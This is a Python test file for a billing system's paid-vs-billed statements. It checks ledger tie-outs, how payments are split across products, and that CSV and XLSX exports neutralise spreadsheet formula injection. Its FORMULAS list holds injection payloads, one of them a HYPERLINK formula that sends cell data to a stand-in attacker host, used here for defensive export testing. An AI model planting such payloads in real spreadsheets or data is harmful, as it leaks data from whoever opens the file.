"""The paid-vs-billed statement: it ties to the ledger for every demo group (summed both ways),
payments split across products add back to the cent, and its CSV and XLSX downloads are safe
to open whatever payers call themselves."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

import billing_core.models  # noqa: F401  (every table on Base.metadata)
from billing_core.billing.invoicing import issue_billing_run
from billing_core.demo.late_groups import LATE_GROUPS
from billing_core.errors import StatementRangeError
from billing_core.exports import csv_bytes, xlsx_bytes
from billing_core.ledger.receivables import account_summary
from billing_core.models import Adjustment, EmployerGroup, Payment, SuspenseItem
from billing_core.models.enums import (
    AdjustmentStatus,
    PaymentMethod,
    PaymentSource,
    PaymentStatus,
    SuspenseStatus,
)
from billing_core.money import D
from billing_core.payments.receipts import record_payment
from billing_core.reports.dashboard import group_dashboard
from billing_core.reports.statement_sheets import statement_sheets, statement_table
from billing_core.reports.statements import (
    default_range,
    ledger_differences,
    month_totals,
    paid_vs_billed,
)
from tests.factories import enroll, make_dental_plan, make_group, make_life_plan, make_member
from tests.unit.conftest import DEMO_HISTORY_MONTHS, DEMO_TODAY

TODAY = DEMO_TODAY
HISTORY_MONTHS = DEMO_HISTORY_MONTHS


@pytest.fixture(scope="module")
def demo(demo_book):
    """The shared demo book (tests/unit/conftest.py), with its groups by number."""
    session = demo_book.session
    groups = list(session.scalars(select(EmployerGroup).order_by(EmployerGroup.group_number)))
    return SimpleNamespace(session=session, groups={g.group_number: g for g in groups})


# (start, end): the default 12 months; from inside the history (earlier periods carried in, and
# paid during the range); a range ending in the past (bills and payments after it left out).
RANGES = [
    default_range(TODAY),
    (date(2026, 4, 1), TODAY),
    (date(2026, 5, 1), TODAY),
    (date(2026, 3, 1), date(2026, 4, 20)),
    (date(2026, 4, 1), date(2026, 4, 30)),
]


@pytest.mark.parametrize("start, end", RANGES)
def test_statement_ties_to_the_ledger_for_every_demo_group(demo, start, end):
    assert len(demo.groups) == 8 + len(LATE_GROUPS)  # the book's eight and the late groups
    for number, group in demo.groups.items():
        statement = paid_vs_billed(demo.session, group, start, end, TODAY, with_bridge=False)
        assert ledger_differences(demo.session, statement) == [], number
        # The other way round, by hand: the receivable on `end` and the aging agree with it.
        assert statement.closing_balance == statement.ledger_receivable == statement.aging.total
        running = statement.earlier_balance
        for line in statement.lines:
            running += line.billed + line.adjusted - line.paid - line.credited
            assert line.running_balance == running
        assert running == statement.closing_balance


@pytest.mark.parametrize("start, end", RANGES)
def test_the_dashboards_month_totals_are_the_statements_months(demo, start, end):
    """The dashboard reads `month_totals` instead of drawing the whole statement: the same
    months, billed and paid, to the cent, for the whole group and for one location."""
    from billing_core.models import BillingSubgroup

    for number, group in demo.groups.items():
        whole = paid_vs_billed(demo.session, group, start, end, TODAY, with_bridge=False)
        assert month_totals(demo.session, group, start, end) == whole.months, number
    northstar = demo.groups["G-1008"]
    houston = frozenset(
        demo.session.scalars(
            select(BillingSubgroup.id).where(BillingSubgroup.group_id == northstar.id).limit(1)
        )
    )
    assert houston
    limited = paid_vs_billed(
        demo.session, northstar, start, end, TODAY, with_bridge=False, subgroup_ids=houston
    )
    assert limited.months
    assert month_totals(demo.session, northstar, start, end, subgroup_ids=houston) == (
        limited.months
    )


def test_the_payments_pages_rows_are_the_payment_history(demo):
    """The employer's payments page reads `payment_rows` (five reads) instead of
    `payment_history` (two more per payment): the same payments, in the same order, each
    paying, holding as credit and refunded the same dollars."""
    from billing_core.ledger.receivables import payment_history
    from billing_core.reports.statements import payment_rows

    def seen(rows):
        return [(r.payment.id, r.applied, r.unallocated, r.refunded, r.status_label) for r in rows]

    for number, group in demo.groups.items():
        history = payment_history(demo.session, group)
        assert history and seen(payment_rows(demo.session, group)) == seen(history), number


def test_invoice_plan_totals_are_the_sums_of_every_demo_invoice_lines(demo):
    """The statement reads the totals written at issue; they must be the lines, exactly."""
    from sqlalchemy import func

    from billing_core.models import InvoiceLine, InvoicePlanTotal

    key = (InvoiceLine.invoice_id, InvoiceLine.section, InvoiceLine.plan_id)
    from_lines = {
        (invoice_id, section, plan_id): (amount, count, members)
        for invoice_id, section, plan_id, amount, count, members in demo.session.execute(
            select(
                *key,
                func.sum(InvoiceLine.amount),
                func.count(),
                func.count(func.distinct(InvoiceLine.member_id)),
            ).group_by(*key)
        )
    }
    written = {
        (t.invoice_id, t.section, t.plan_id): (t.amount, t.line_count, t.member_count)
        for t in demo.session.scalars(select(InvoicePlanTotal))
    }
    assert len(from_lines) > 100
    assert written == from_lines


def test_today_the_statement_agrees_with_the_account_summary(demo):
    for number, group in demo.groups.items():
        statement = paid_vs_billed(demo.session, group, *default_range(TODAY), TODAY)
        summary = account_summary(demo.session, group, TODAY)
        assert statement.closing_balance == summary.open_balance, number
        assert statement.credit == summary.credit, number
        assert sum((m.billed for m in statement.months), D("0")) == statement.billed + (
            statement.adjusted
        ) - sum((i.charges for i in statement.invoices if i.void_on_end), D("0"))


def test_the_demo_stories_show_on_their_statements(demo):
    s = demo.session
    statements = {
        number: paid_vs_billed(s, group, *default_range(TODAY), TODAY)
        for number, group in demo.groups.items()
    }
    # Overpaid once by 150.00: the credit was used on the next bill when it was issued.
    assert statements["G-1005"].credit == D("0.00")
    assert [i.invoice.credit_applied for i in statements["G-1005"].invoices].count(D("150.00")) == 1
    assert statements["G-1007"].aging.past_due > 0  # stopped paying
    assert statements["G-1004"].credited == D("12.40")  # short inside tolerance: written off
    returned = [p for p in statements["G-1003"].payments if p.status_label == "Returned"]
    assert returned and returned[0].applied == ()  # an NSF return pays nothing
    # The lockbox check in suspense names no group: on nobody's statement.
    item = s.scalars(select(SuspenseItem).where(SuspenseItem.status == SuspenseStatus.OPEN)).one()
    for statement in statements.values():
        assert item.payment_id not in {p.payment.id for p in statement.payments}
    latest = statements["G-1008"]
    assert latest.bridge is not None and latest.bridge.balances
    assert latest.bridge.invoice == latest.latest_invoice


def test_dashboard_has_twelve_months_and_the_account(demo):
    group = demo.groups["G-1007"]
    dashboard = group_dashboard(demo.session, group, TODAY)
    assert dashboard.summary.past_due > 0
    assert dashboard.months and all(m.month >= date(2025, 6, 1) for m in dashboard.months)
    assert dashboard.latest_upload is None or dashboard.upload_status_label


def test_a_range_that_cannot_be_drawn_is_refused(demo):
    group = demo.groups["G-1001"]
    with pytest.raises(StatementRangeError, match="start on or before"):
        paid_vs_billed(demo.session, group, date(2026, 5, 1), date(2026, 4, 1), TODAY)
    with pytest.raises(StatementRangeError, match="at most 60 months"):
        paid_vs_billed(demo.session, group, date(2020, 1, 1), TODAY, TODAY)


# --------------------------------------------------------------------------- small book

JAN, FEB = date(2027, 1, 1), date(2027, 2, 1)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1-800-EVIL",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]


@pytest.fixture
def book(unit_session):
    """Dental and life for three people; January part-paid by a payer with a formula for a
    name; February carries a dental retro credit of -12.50."""
    s = unit_session
    group = make_group(s, name="Birch & Daughters")
    dental = make_dental_plan(s, group)
    life = make_life_plan(s, group)
    for tier in ("FAM", "EE", "ES"):
        member = make_member(s, group)
        enroll(s, member, dental, tier)
        enroll(s, member, life, None)
    [jan] = issue_billing_run(s, JAN, group_numbers=[group.group_number]).issued
    payments = []
    for number, name in enumerate(FORMULAS):
        payment, _ = record_payment(
            s,
            group=group,
            amount=D("33.33"),
            method=PaymentMethod.CHECK,
            received_on=date(2027, 1, 5 + number),
            source=PaymentSource.STAFF,
            reference=name,
            payer_name=name,
            invoice_ids=[jan.id],
        )
        payments.append(payment)
    s.add(
        Adjustment(
            group_id=group.id,
            member_id=member.id,
            plan_id=dental.id,
            coverage_month=JAN,
            amount=D("-12.50"),
            reason_code="rate_correction",
            source_type="manual",
            status=AdjustmentStatus.APPROVED,
        )
    )
    s.flush()
    [feb] = issue_billing_run(s, FEB, group_numbers=[group.group_number]).issued
    statement = paid_vs_billed(s, group, JAN, date(2027, 2, 10), date(2027, 2, 10))
    return SimpleNamespace(session=s, group=group, jan=jan, feb=feb, statement=statement)


def test_payments_split_across_products_add_back_exactly(book):
    s = book.statement
    assert ledger_differences(book.session, s) == []
    jan_lines = [line for line in s.lines if line.period_start == JAN]
    assert [line.product for line in jan_lines] == ["Basic Life", "Dental PPO"]
    paid = D("33.33") * len(FORMULAS)
    assert sum((line.paid for line in jan_lines), D("0")) == paid == s.invoices[0].paid
    charges = [line.charges for line in jan_lines]
    for line in jan_lines:  # in proportion to the charges, to within a cent
        share = paid * line.charges / sum(charges)
        assert abs(line.paid - share) < D("0.01")
    feb_dental = next(li for li in s.lines if li.period_start == FEB and li.product == "Dental PPO")
    assert feb_dental.adjusted == D("-12.50")


def test_a_negative_split_weight_takes_no_share(book):
    from billing_core.reports.statements import _share

    assert _share(D("10.00"), [D("30.00"), D("-5.00"), D("10.00")]) == [
        D("7.50"),
        D("0.00"),
        D("2.50"),
    ]
    assert _share(D("1.00"), [D("-1.00"), D("0.00")]) == [D("1.00"), D("0.00")]
    assert _share(D("0.01"), [D("1"), D("1"), D("1")]) == [D("0.01"), D("0.00"), D("0.00")]


def _harmless(text: str, original: str) -> None:
    """What a spreadsheet would show: the original text after a leading quote (so never a
    formula), control characters XML cannot hold dropped."""
    assert text.startswith("'"), repr(text)
    # XML reads a carriage return back as a line feed
    assert text[1:] in {original, original.replace("\r", "\n")}, repr(text)


def test_statement_csv_reads_back_harmless_with_numbers_as_numbers(book):
    table = statement_table(book.statement, "payments")
    data = csv_bytes(table.columns, table.rows)
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert len(frame) == len(FORMULAS)
    for cell, original in zip(frame["Payer"], FORMULAS, strict=True):
        _harmless(cell, original)
    for cell, original in zip(frame["Reference"], FORMULAS, strict=True):
        _harmless(cell, original)
    assert set(frame["Amount"]) == {"33.33"}
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1][2:5])
    lines = statement_table(book.statement, "lines")
    text = csv_bytes(lines.columns, lines.rows).decode("utf-8-sig")
    assert ",-12.50," in text  # a credit stays a plain number, not a quoted text


def test_statement_xlsx_reads_back_harmless_typed_and_one_sheet_per_section(book):
    data = xlsx_bytes(statement_sheets(book.statement))
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [
        "Summary",
        "By period and product",
        "Invoices",
        "Payments",
        "Aging",
        "By month",
    ]
    payments = workbook["Payments"]
    assert payments.freeze_panes == "A2"
    header = [c.value for c in payments[1]]
    payer, reference, amount = (header.index(h) for h in ("Payer", "Reference", "Amount"))
    received = header.index("Received")
    for row, original in zip(payments.iter_rows(min_row=2), FORMULAS, strict=True):
        for cell in (row[payer], row[reference]):
            assert cell.data_type == "s"  # text, never "f" (a formula)
            _harmless(cell.value, original)
        assert row[amount].data_type == "n" and Decimal(str(row[amount].value)) == D("33.33")
        assert row[amount].number_format == "#,##0.00;-#,##0.00"
        assert row[received].is_date and row[received].number_format == "yyyy-mm-dd"
    lines = workbook["By period and product"]
    header = [c.value for c in lines[1]]
    adjusted = header.index("Adjusted")
    credits = [r[adjusted] for r in lines.iter_rows(min_row=2) if r[adjusted].value is not None]
    retro = [c for c in credits if c.value and c.value < 0]
    assert retro and retro[0].data_type == "n" and retro[0].value == pytest.approx(-12.5)
    assert lines["A3"].is_date and lines["A3"].number_format == "mmm yyyy"
    # pandas sees the same: numbers as floats, the formula-like names as quoted text
    frame = pd.read_excel(io.BytesIO(data), sheet_name="Payments", engine="calamine")
    assert frame["Amount"].dtype.kind == "f"
    assert all(str(v).startswith("'") for v in frame["Payer"])


def test_failed_and_pending_payments_hold_no_credit(book):
    s = book.session
    payment = s.scalars(select(Payment).where(Payment.payer_name == FORMULAS[0])).one()
    assert payment.status is PaymentStatus.SUCCEEDED
    row = next(p for p in book.statement.payments if p.payment.id == payment.id)
    assert row.unallocated == D("0.00") and row.applied[0][1] == D("33.33")


def test_month_totals_leave_out_a_bill_voided_by_then(book):
    """A void counts from its day: before it the month is billed, after it not, as on the
    statement."""
    from billing_core.billing.invoicing import void_invoice
    from billing_core.models.enums import Role
    from tests.factories import make_user

    s = book.session
    supervisor = make_user(s, Role.SUPERVISOR)
    void_invoice(s, book.feb, reason="wrong tier", actor=supervisor, on=date(2027, 2, 12))
    s.flush()
    for end in (date(2027, 2, 10), date(2027, 2, 20)):
        statement = paid_vs_billed(s, book.group, JAN, end, end, with_bridge=False)
        assert month_totals(s, book.group, JAN, end) == statement.months
    before, after = (
        {m.month: m.billed for m in month_totals(s, book.group, JAN, end)}
        for end in (date(2027, 2, 10), date(2027, 2, 20))
    )
    assert before[FEB] > 0 and after[FEB] == 0 and before[JAN] == after[JAN] > 0


def test_payment_rows_hold_credit_as_the_payment_history_does(book):
    """A payment on account (no invoice chosen) beyond what is owed holds credit: the payments
    page's rows say so as the payment history does."""
    from billing_core.ledger.receivables import payment_history
    from billing_core.reports.statements import payment_rows

    record_payment(
        book.session,
        group=book.group,
        amount=D("5000.00"),
        method=PaymentMethod.WIRE,
        received_on=date(2027, 2, 15),
        source=PaymentSource.STAFF,
        reference="on account",
    )
    book.session.flush()
    history = payment_history(book.session, book.group)
    rows = payment_rows(book.session, book.group)
    assert any(r.unallocated > 0 for r in history)
    assert [(r.payment.id, r.applied, r.unallocated, r.refunded) for r in rows] == [
        (r.payment.id, r.applied, r.unallocated, r.refunded) for r in history
    ]
